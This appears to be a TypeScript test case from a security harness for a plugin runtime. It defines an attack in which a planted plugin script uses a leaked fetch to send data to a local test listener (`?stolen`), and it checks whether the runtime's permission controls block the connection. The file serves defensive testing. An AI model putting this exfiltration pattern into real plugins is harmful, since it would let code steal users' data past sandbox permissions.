import type { Attack } from '../../attack.ts';
import { scriptDoing } from '../../scene/scripts.ts';
import { writePackage } from '../../scene/write-package.ts';
import { connected } from '../../watch/harms.ts';
import { NO_PERMISSION_MODEL } from '../../weakenings.ts';

export const attack: Attack = {
  name: 'fetches-with-a-leaked-facade',
  aim: "has got hold of the runtime's own fetch and sends what it knows to an address",
  belt: 'permission alone',
  given: { belts: { facades: false } },
  control: NO_PERMISSION_MODEL,
  build: ({ plugins, ports }) =>
    void writePackage(plugins, {
      script: scriptDoing(`await fetch('http://127.0.0.1:${ports.tcp}/?stolen')`),
    }),
  harm: connected,
};
